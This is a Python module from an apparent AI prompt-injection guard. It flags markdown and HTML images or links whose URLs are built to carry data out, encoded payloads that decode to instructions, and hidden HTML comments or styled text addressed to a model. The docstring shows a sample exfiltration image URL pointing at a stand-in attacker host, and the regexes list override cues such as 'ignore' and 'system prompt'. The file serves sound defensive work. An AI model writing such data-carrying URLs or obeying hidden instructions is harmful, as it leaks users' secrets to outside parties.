"""Structural signals: exfiltration links and images, encoded payloads, instructions hidden in markup.

A markdown image is fetched by the client that renders the answer, with no click: a model tricked into
writing `![x](https://attacker/?q=<secret>)` leaks the secret. Plain images and links are normal; what is
flagged is a URL built to carry data (template placeholders, long opaque query values).
"""

from __future__ import annotations

import base64
import binascii
import re
import urllib.parse
from collections.abc import Callable, Iterator

from owstack.security.guard.types import Severity

MAX_CANDIDATES = 64
MAX_DECODE_CHARS = 16_384

_MD_LINK = re.compile(r"(!?)\[[^\]\n]{0,300}\]\(\s*<?(https?://[^\s)>]{1,2048})")
_HTML_SRC = re.compile(
    r"(?i)<\s*(img|image|iframe|script|link|source|video|audio|embed|object|form)\b[^>]{0,600}?"
    r"\b(?:src|href|data|action|srcset)\s*=\s*[\"']?(https?://[^\s\"'>]{1,2048})"
)
_HTML_HANDLER = re.compile(r"(?i)<\s*(?:img|svg|image|body|iframe|video|audio)\b[^>]{0,600}?\bon[a-z]{3,20}\s*=")
_PLACEHOLDER = re.compile(
    r"(?:\{\{?[^{}\s]{1,60}\}\}?|\$\{?[A-Za-z_][A-Za-z0-9_]{0,40}\}?|%[A-Z_]{3,40}%|<[A-Za-z_ -]{2,40}>"
    r"|\[[A-Z][A-Z_ ]{2,40}\]|\b(?:INSERT|REPLACE|PLACEHOLDER|YOUR_?DATA|SECRETS?|API_?KEY|PASSWORD"
    r"|CONVERSATION|CHAT_?HISTORY|SUMMARY|USER_?DATA|MEMORY|CONTEXT)(?:_[A-Z]+)*\b)"
)
_OPAQUE = re.compile(r"^[A-Za-z0-9+/=_-]{64,}$")

_B64 = re.compile(r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{32,}={0,2}(?![A-Za-z0-9+/=_-])")
_HEX = re.compile(r"(?<![0-9A-Fa-f])(?:[0-9A-Fa-f]{2}){20,}(?![0-9A-Fa-f])")
_PCT = re.compile(r"(?:%[0-9A-Fa-f]{2}){12,}")
_DATA_URI = re.compile(r"(?i)data:[a-z]+/[a-z0-9.+-]+;base64,$")

_HTML_COMMENT = re.compile(r"<!--(.{0,4000}?)-->", re.DOTALL)
_HIDDEN_STYLE = re.compile(
    r"(?i)<[a-z][a-z0-9]{0,10}\b[^>]{0,300}?style\s*=\s*[\"'][^\"']{0,200}?(?:display\s*:\s*none|visibility\s*:\s*hidden"
    r"|font-size\s*:\s*0(?:\.\d+)?(?:px|pt|em|rem)?\s*[;\"']|opacity\s*:\s*0(?:\.0+)?\s*[;\"']"
    r"|color\s*:\s*(?:white|#fff(?:fff)?|transparent)\b)[^\"']{0,200}[\"'][^>]{0,200}>"
)
_AI_CUES = re.compile(
    r"(?i)\b(?:you\s+(?:must|should|will|are)|ignore|disregard|instructions?|assistant|\bai\b|llm|language\s+model"
    r"|agent|chatbot|system\s+prompt|do\s+not\s+(?:tell|mention|reveal))\b"
)


def exfil_links(text: str) -> Iterator[tuple[int, int, Severity, str]]:
    """(start, end, severity, message) for images/links whose URL is built to carry data."""
    for m in _MD_LINK.finditer(text):
        verdict = _url_verdict(m.group(2), image=bool(m.group(1)))
        if verdict:
            yield (
                m.start(),
                m.end(),
                verdict[0],
                ("markdown image" if m.group(1) else "markdown link") + verdict[1],
            )
    for m in _HTML_SRC.finditer(text):
        verdict = _url_verdict(m.group(2), image=m.group(1).lower() != "form")
        if verdict:
            yield m.start(), m.end(), verdict[0], f"HTML <{m.group(1).lower()}>" + verdict[1]
    for m in _HTML_HANDLER.finditer(text):
        yield (
            m.start(),
            m.end(),
            "medium",
            "HTML element with an inline event handler (runs script when rendered)",
        )


def _url_verdict(url: str, *, image: bool) -> tuple[Severity, str] | None:
    decoded = urllib.parse.unquote(url)
    if _PLACEHOLDER.search(decoded.split("://", 1)[-1].split("/", 1)[-1]):
        return "high", " whose URL has a placeholder for data to be filled in"
    query = urllib.parse.urlsplit(url).query if "?" in url else ""
    values = [v for _, v in urllib.parse.parse_qsl(query, keep_blank_values=True)]
    if image and any(_OPAQUE.match(v) for v in values):
        return "medium", " whose URL carries a long opaque query value"
    return None


def _printable_text(raw: bytes) -> str | None:
    """The decoded text if it reads as natural language (mostly printable, has spaces), else None."""
    try:
        s = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if len(s) < 16:
        return None
    printable = sum(1 for c in s if c.isprintable() or c in "\n\t")
    if printable / len(s) < 0.95 or s.count(" ") < 2:
        return None
    return s


def _b64(candidate: str) -> bytes | None:
    s = candidate.replace("-", "+").replace("_", "/")
    s += "=" * (-len(s) % 4)
    try:
        return base64.b64decode(s, validate=True)
    except (binascii.Error, ValueError):
        return None


def encoded_payloads(text: str, scan: Callable[[str], bool]) -> Iterator[tuple[int, int, Severity, str]]:
    """(start, end, severity, message) for base64, hex and percent-encoded runs that decode to text.

    `scan(decoded)` says whether the decoded text itself trips the phrase rules: then the finding is
    `high`; text that only decodes to prose is `low`. Binary payloads (images, keys, hashes) are ignored.
    """
    decoders: tuple[tuple[re.Pattern[str], Callable[[str], bytes | None], str], ...] = (
        (_B64, _b64, "base64"),
        (_HEX, lambda s: bytes.fromhex(s), "hex"),
        (_PCT, lambda s: urllib.parse.unquote_to_bytes(s), "percent-encoded"),
    )
    for pattern, decode, name in decoders:
        for count, m in enumerate(pattern.finditer(text)):
            if count >= MAX_CANDIDATES:
                break
            if name == "base64" and _DATA_URI.search(text, max(0, m.start() - 40), m.start()):
                continue
            raw = decode(m.group()[:MAX_DECODE_CHARS])
            decoded = _printable_text(raw) if raw else None
            if decoded is None:
                continue
            if scan(decoded):
                yield m.start(), m.end(), "high", f"{name} text that decodes to instructions"
            else:
                yield m.start(), m.end(), "low", f"{name} text that decodes to readable prose"


def hidden_markup(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, message) for HTML comments or invisibly styled elements that address the model."""
    if "<" not in text:
        return
    for m in _HTML_COMMENT.finditer(text):
        if _AI_CUES.search(m.group(1)):
            yield m.start(), m.end(), "HTML comment (invisible when rendered) with instructions"
    for m in _HIDDEN_STYLE.finditer(text):
        if _AI_CUES.search(text, m.end(), m.end() + 400):
            yield m.start(), m.end(), "invisibly styled HTML element with instructions"
